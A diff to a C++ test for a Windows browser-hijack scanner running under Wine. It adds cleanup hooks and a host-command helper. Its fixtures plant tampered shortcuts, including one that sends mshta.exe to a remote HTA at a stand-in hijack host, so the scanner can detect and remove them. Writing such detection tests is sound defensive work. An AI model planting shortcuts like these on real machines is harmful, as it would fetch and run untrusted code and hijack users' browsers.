@@ -10,6 +10,7 @@
 
 #include <filesystem>
 #include <fstream>
+#include <functional>
 #include <iterator>
 #include <map>
 
@@ -60,6 +61,7 @@ std::string Quoted(const fs::path& path) {
 class BrowsersWine : public ::testing::Test {
  protected:
   void TearDown() override {
+    for (auto& undo : cleanup) undo();
     DeleteKeyTree(registry, HKLM, R"(SOFTWARE\Policies\Google)");
     DeleteKeyTree(registry, HKCU, kEdge);
     DeleteKeyTree(registry, HKCU, R"(SOFTWARE\Policies\Mozilla)");
@@ -75,6 +77,7 @@ class BrowsersWine : public ::testing::Test {
 
   Win32Registry registry;
   fs::path dir;
+  std::vector<std::function<void()>> cleanup;  // runs even after a failed assertion
 };
 
 TEST_F(BrowsersWine, ListsAndRemovesPlantedPoliciesFromEitherViewOnly) {
@@ -156,6 +159,24 @@ fs::path Known(REFKNOWNFOLDERID id) {
   return folder;
 }
 
+// Runs a program of the host (Wine starts those too) on one of this prefix's files.
+void RunOnHost(const std::string& command, const fs::path& file) {
+  using UnixName = char* (*)(const wchar_t*);
+  auto unixName = reinterpret_cast<UnixName>(reinterpret_cast<void*>(
+      ::GetProcAddress(::GetModuleHandleW(L"kernel32"), "wine_get_unix_file_name")));
+  ASSERT_NE(unixName, nullptr);
+  const std::string program = command.substr(0, command.find(' '));
+  std::wstring line = Wide(command + " \"" + unixName(file.c_str()) + "\"");
+  STARTUPINFOW start{};
+  start.cb = sizeof start;
+  PROCESS_INFORMATION process{};
+  ASSERT_TRUE(::CreateProcessW(Wide("Z:\\bin\\" + program).c_str(), line.data(), nullptr, nullptr, FALSE, 0,
+                               nullptr, nullptr, &start, &process));
+  ::WaitForSingleObject(process.hProcess, 10000);
+  ::CloseHandle(process.hThread);
+  ::CloseHandle(process.hProcess);
+}
+
 TEST_F(BrowsersWine, CleansAndDeletesTamperedShortcutsThatHijackersMadeReadOnly) {
   Win32ShortcutStore shortcuts;
   Win32FileStore files;
@@ -167,15 +188,27 @@ TEST_F(BrowsersWine, CleansAndDeletesTamperedShortcutsThatHijackersMadeReadOnly)
   const fs::path menu = Known(FOLDERID_Programs) / L"Orvane 测试";
   const fs::path impostor = menu / L"Microsoft Edge.lnk", broken = menu / L"Firefox.lnk";
   fs::create_directories(menu);
+  cleanup.push_back([=] {
+    ::SetFileAttributesW(desktop.c_str(), FILE_ATTRIBUTE_NORMAL);
+    ::SetFileAttributesW(impostor.c_str(), FILE_ATTRIBUTE_NORMAL);
+    fs::remove(desktop);
+    RunOnHost("rm -f", menu / L"loop");
+    fs::remove_all(menu);
+  });
   MakeLink(desktop, app / "chrome.exe", LR"(--profile-directory="Profile 1" https://hijack.example/?src=lnk)");
   MakeLink(impostor, Known(FOLDERID_System) / "mshta.exe", L"http://hijack.example/a.hta");
   std::ofstream(broken, std::ios::binary) << "not a shortcut";
   for (const fs::path& link : {desktop, impostor}) {
     ASSERT_TRUE(::SetFileAttributesW(link.c_str(), FILE_ATTRIBUTE_READONLY));
   }
+  // The Start menu linked within itself: a host link shows as a linked folder
+  // (a reparse point) under Wine, as a junction does on Windows.
+  RunOnHost("ln -s ..", menu / L"loop");
+  ASSERT_EQ(::GetFileAttributesW((menu / L"loop").c_str()), FILE_ATTRIBUTE_DIRECTORY | FILE_ATTRIBUTE_REPARSE_POINT);
 
   // The folder's own order: Wine lists files as the host's file system gives them.
   const auto findings = ScanBrowsers(services);
+  EXPECT_EQ(findings.size(), 3u);
   std::map<std::string, std::string> found;
   for (const BrowserFinding& finding : findings) {
     found[AsciiLower(finding.where)] = finding.cleanable ? AsciiLower(finding.value) : "listed only";
@@ -195,10 +228,6 @@ TEST_F(BrowsersWine, CleansAndDeletesTamperedShortcutsThatHijackersMadeReadOnly)
   EXPECT_TRUE(::GetFileAttributesW(desktop.c_str()) & FILE_ATTRIBUTE_READONLY);
   EXPECT_FALSE(fs::exists(impostor));
   EXPECT_EQ(Bytes(broken), "not a shortcut");
-
-  ::SetFileAttributesW(desktop.c_str(), FILE_ATTRIBUTE_NORMAL);
-  fs::remove(desktop);
-  fs::remove_all(menu);
 }
 
 }  // namespace
